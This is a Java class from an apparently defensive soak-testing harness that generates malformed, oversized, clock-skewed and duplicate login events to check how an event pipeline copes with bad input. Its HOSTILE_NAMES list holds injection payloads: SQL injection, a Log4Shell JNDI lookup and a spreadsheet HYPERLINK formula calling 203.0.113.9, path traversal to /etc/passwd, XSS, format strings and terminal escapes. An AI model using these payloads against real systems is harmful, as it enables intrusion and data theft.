package io.leakwatch.workbench.soak;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;

import io.leakwatch.schemas.EventKind;
import io.leakwatch.schemas.Geo;
import io.leakwatch.schemas.LoginEvent;
import io.leakwatch.traffic.world.Dice;
import java.time.Duration;
import java.util.ArrayDeque;
import java.util.Arrays;
import java.util.Deque;
import java.util.List;
import java.util.function.LongFunction;
import org.apache.avro.specific.SpecificRecordBase;

/**
 * Everything that does not belong into a topic, and what belongs there though it does not look like
 * it; each kind as often as the others.
 */
final class Garbage {

  private static final int HEADER = 10;
  private static final int HUGE = 1 << 18;
  private static final long DAY = Duration.ofDays(1).toMillis();

  /** Names that terminals, shells, databases, loggers and file systems would obey. */
  private static final List<String> HOSTILE_NAMES =
      List.of(
          "\u001b[2J\u001b[1;31m",
          "\u202e\u2066txt.exe",
          "a\r\nb\u0000c\u0007",
          "'; DROP TABLE accounts; --",
          "${jndi:ldap://203.0.113.9/a}",
          "../../../../etc/passwd",
          "%n%s%x",
          "=HYPERLINK(\"http://203.0.113.9\")",
          "<script>alert(1)</script>",
          "\uFEFF\u200B\u00AD",
          "Z\u0351\u036B\u0343\u036A".repeat(20),
          "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67");

  private final MadeUp ids = new MadeUp("garbage-", 0x2a0f);
  private final Deque<SoakRecord> again = new ArrayDeque<>();
  private final EventBytes bytes;
  private final Dice dice;
  private final List<LongFunction<SoakRecord>> kinds =
      List.of(
          this::withoutValue,
          this::noise,
          this::text,
          this::cut,
          this::turnedOver,
          this::longer,
          this::endlessText,
          this::ofUnknownSchema,
          this::inTheWrongTopic,
          this::impossibleValue,
          this::inOtherUnits,
          this::farAhead,
          this::farAheadByItsProducer,
          this::farBehind,
          this::hugeName,
          this::hugeUserAgent,
          this::nobody,
          this::hostileName,
          this::nameThatIsNoUtf8,
          this::collidingName,
          this::twice);

  Garbage(long seed, EventBytes bytes) {
    this.dice = Dice.of(seed, 0x6a7b);
    this.bytes = bytes;
  }

  /** How many kinds there are. */
  static int kinds() {
    return new Garbage(0, new EventBytes()).kinds.size();
  }

  /** The next one, as it comes at a moment, in epoch milliseconds. */
  SoakRecord next(long at) {
    return again.isEmpty() ? dice.pick(kinds).apply(at) : again.remove();
  }

  private SoakRecord record(byte[] value, long at, Fate fate) {
    return new SoakRecord(EventKind.LOGIN, value, at, false, fate);
  }

  private SoakRecord record(SpecificRecordBase event, long at, Fate fate) {
    return new SoakRecord(EventKind.of(event), bytes.of(event), at, false, fate);
  }

  private byte[] login(long at) {
    return bytes.of(ids.login(at).build());
  }

  private SoakRecord withoutValue(long at) {
    return record(dice.chance(0.5) ? null : new byte[0], at, Fate.DEAD_LETTER);
  }

  private SoakRecord noise(long at) {
    byte[] noise = new byte[dice.between(1, 300)];
    for (int i = 0; i < noise.length; i++) {
      noise[i] = (byte) dice.bits();
    }
    noise[0] = 0; // never the mark of an event
    return record(noise, at, Fate.DEAD_LETTER);
  }

  private SoakRecord text(long at) {
    String json = "{\"event_id\":\"%s\",\"account_id\":[[[[{}]]]]}".formatted(ids.fresh());
    return record(json.getBytes(UTF_8), at, Fate.DEAD_LETTER);
  }

  private SoakRecord cut(long at) {
    byte[] whole = login(at);
    return record(Arrays.copyOf(whole, dice.between(1, whole.length - 1)), at, Fate.DEAD_LETTER);
  }

  /** Behind the id and the time, so that it stays a record of this moment. */
  private SoakRecord turnedOver(long at) {
    byte[] value = login(at);
    for (int i = 0; i < 3; i++) {
      value[dice.between(value.length / 2, value.length - 1)] ^= (byte) (1 << dice.below(8));
    }
    return record(value, at, Fate.EITHER);
  }

  private SoakRecord longer(long at) {
    byte[] value = login(at);
    return record(Arrays.copyOf(value, value.length + dice.between(1, 50)), at, Fate.EITHER);
  }

  /** It claims a length that would fill all memory. */
  private SoakRecord endlessText(long at) {
    byte[] value = Arrays.copyOf(login(at), HEADER + 8);
    Arrays.fill(value, HEADER, HEADER + 4, (byte) 0xFF);
    value[HEADER + 4] = 0x0E;
    return record(value, at, Fate.DEAD_LETTER);
  }

  private SoakRecord ofUnknownSchema(long at) {
    byte[] value = login(at);
    value[2 + dice.below(8)] ^= (byte) 0x55;
    return record(value, at, Fate.DEAD_LETTER);
  }

  private SoakRecord inTheWrongTopic(long at) {
    return record(bytes.of(ids.message(at).build()), at, Fate.DEAD_LETTER);
  }

  private SoakRecord impossibleValue(long at) {
    SpecificRecordBase event =
        switch (dice.below(5)) {
          case 0 -> ids.call(at).setStatus(dice.chance(0.5) ? 999 : Integer.MIN_VALUE).build();
          case 1 -> ids.call(at).setRecords(-1).build();
          case 2 -> ids.login(at).setGeo(new Geo("DE", Double.NaN, 400.0, 5)).build();
          case 3 -> ids.login(at).setIp("999.1.1.1").build();
          default -> ids.message(at).setDurationMs(Long.MIN_VALUE).build();
        };
    return record(event, at, Fate.DEAD_LETTER);
  }

  private SoakRecord inOtherUnits(long at) {
    long claimed = dice.chance(0.5) ? at / 1000 : at * 1000;
    return record(login(claimed), at, Fate.DEAD_LETTER);
  }

  private SoakRecord farAhead(long at) {
    long claimed = at + DAY * dice.between(1, 60);
    return new SoakRecord(EventKind.LOGIN, login(claimed), at, true, Fate.DEAD_LETTER);
  }

  /** Its producer's clock has stamped the record, too, and is as wrong. */
  private SoakRecord farAheadByItsProducer(long at) {
    long claimed = at + DAY * dice.between(1, 60);
    return new SoakRecord(EventKind.LOGIN, login(claimed), claimed, false, Fate.DEAD_LETTER);
  }

  private SoakRecord farBehind(long at) {
    return record(login(at - DAY * dice.between(1, 400)), at, Fate.LATE);
  }

  private SoakRecord hugeName(long at) {
    LoginEvent event = ids.login(at).setAccountId("n".repeat(HUGE) + ids.fresh()).build();
    return record(event, at, Fate.DEAD_LETTER);
  }

  private SoakRecord hugeUserAgent(long at) {
    LoginEvent event = ids.login(at).setUserAgent("u".repeat(HUGE) + ids.fresh()).build();
    return record(event, at, Fate.EVALUATED);
  }

  private SoakRecord nobody(long at) {
    return record(ids.login(at).setAccountId("unknown").build(), at, Fate.DEAD_LETTER);
  }

  private SoakRecord hostileName(long at) {
    String name = dice.pick(HOSTILE_NAMES) + ids.fresh();
    LoginEvent event =
        ids.login(at).setAccountId(name).setDeviceId(name).setSessionId(name).build();
    return record(event, at, Fate.EVALUATED);
  }

  private SoakRecord nameThatIsNoUtf8(long at) {
    String mark = "~~~~";
    byte[] value = bytes.of(ids.login(at).setAccountId(mark + ids.fresh()).build());
    int place = new String(value, US_ASCII).indexOf(mark);
    for (int i = 0; i < mark.length(); i++) {
      value[place + i] = (byte) dice.between(0x80, 0xFF);
    }
    return record(value, at, Fate.EVALUATED);
  }

  /** As Java texts they all have one hash. */
  private SoakRecord collidingName(long at) {
    StringBuilder name = new StringBuilder("garbage-");
    for (int i = 0; i < 30; i++) {
      name.append(dice.chance(0.5) ? "Aa" : "BB");
    }
    return record(ids.login(at).setAccountId(name.toString()).build(), at, Fate.EVALUATED);
  }

  private SoakRecord twice(long at) {
    SoakRecord first = record(login(at), at, Fate.EVALUATED);
    again.add(new SoakRecord(first.topic(), first.value(), at, first.isByBroker(), Fate.DUPLICATE));
    return first;
  }
}
